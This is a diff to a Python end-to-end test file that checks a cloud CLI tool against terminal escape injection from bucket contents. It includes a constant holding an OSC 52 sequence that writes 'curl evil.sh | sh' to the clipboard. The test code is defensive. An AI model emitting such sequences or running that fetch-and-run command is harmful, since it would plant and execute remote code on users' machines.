@@ -16,7 +16,16 @@ import pytest
 from provision.cloud.storage import local_bucket
 from provision.runs import store as runs
 from tests.conftest import REPO, TPUCTL_BIN, run_tpuctl_process
-from tests.e2e.hostile_records import COMMANDS, SHOWN, TOKEN, controls, make_world, run_command
+from tests.e2e.hostile_records import (
+    COMMANDS,
+    EXEMPT,
+    SHOWN,
+    SHOWN_NAME,
+    TOKEN,
+    controls,
+    make_world,
+    run_command,
+)
 
 CLEAR = "\x1b[2J\x1b[H"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # "curl evil.sh | sh" onto the clipboard
@@ -98,8 +107,48 @@ def test_no_command_prints_a_control_character_that_a_bucket_holds(tmp_path, nam
     assert res.returncode == 0, res.stderr.decode()
     assert controls(res.stdout) == [] and controls(res.stderr) == [], (res.stdout, res.stderr)
     shown = res.stdout.decode() + res.stderr.decode()
-    assert SHOWN in shown                          # the record was shown, its escapes as "?"
+    assert SHOWN in shown or SHOWN_NAME in shown   # the record (or object name) was shown, its escapes as "?"
     assert TOKEN not in shown and "internal error" not in shown
+
+
+def _command_paths(group, prefix: str = "") -> dict[str, object]:
+    """Every command the CLI has (hidden ones too), by its words: ``sweep stop``."""
+    import click
+
+    paths: dict[str, object] = {}
+    for name, cmd in group.commands.items():
+        path = f"{prefix} {name}".strip()
+        if isinstance(cmd, click.Group):
+            paths.update(_command_paths(cmd, path))
+        else:
+            paths[path] = cmd
+    return paths
+
+
+def _path_of(words: list[str], paths: dict[str, object]) -> str:
+    path = ""
+    for word in words:
+        longer = f"{path} {word}".strip()
+        if not any(p == longer or p.startswith(longer + " ") for p in paths):
+            break
+        path = longer
+    return path
+
+
+def test_every_command_is_checked_against_hostile_records_or_exempt_with_a_reason():
+    """A command added later that prints a bucket's strings is checked by the test above only if
+    it is in hostile_records.COMMANDS: every command of the CLI is there or in EXEMPT, with the
+    reason it prints nothing a bucket holds."""
+    from provision.cli import cli
+
+    paths = _command_paths(cli)
+    covered = {_path_of(words, paths) for words, _kind in COMMANDS.values()}
+    assert covered <= set(paths), covered - set(paths)
+    missing = sorted(set(paths) - covered - set(EXEMPT))
+    assert not missing, f"add each to hostile_records.COMMANDS, or to EXEMPT with a reason: {missing}"
+    assert not covered & set(EXEMPT), covered & set(EXEMPT)
+    assert set(EXEMPT) <= set(paths), set(EXEMPT) - set(paths)
+    assert all(len(why) > 20 for why in EXEMPT.values())
 
 
 def test_logs_scrub_a_token_the_job_printed_even_cut_in_two_by_an_upload(tmp_path):
@@ -154,3 +203,16 @@ def test_stage_still_redraws_its_own_progress_bar_on_a_terminal(tmp_path):
     os.close(master)
     assert proc.wait(timeout=60) == 0, seen
     assert b"\r[########################] 100.0% 200.0 kB/200.0 kB" in seen and b"?[#" not in seen
+
+
+def test_a_log_that_starts_with_a_carriage_return_cannot_draw_over_the_line_above():
+    """A carriage return at the start of what a command writes would bring the cursor back over
+    the line a person reads, and a bucket's text would overwrite it (here: an error hidden by
+    "all good"). Only tpuctl's own progress bar redraws a line; anyone else's shows as ``?``."""
+    rec = _hostile_run()
+    bucket = local_bucket("tpuctl-local")
+    bucket.write_bytes(f"{runs.RunStore(bucket, rec.run_id).attempt_prefix(1)}/log-0.txt",
+                       b"\rstep 10 of 10: all good\n")
+    res = _tpuctl_bytes("logs", rec.run_id)
+    assert res.returncode == 0, res.stderr
+    assert res.stdout == b"?step 10 of 10: all good\n"
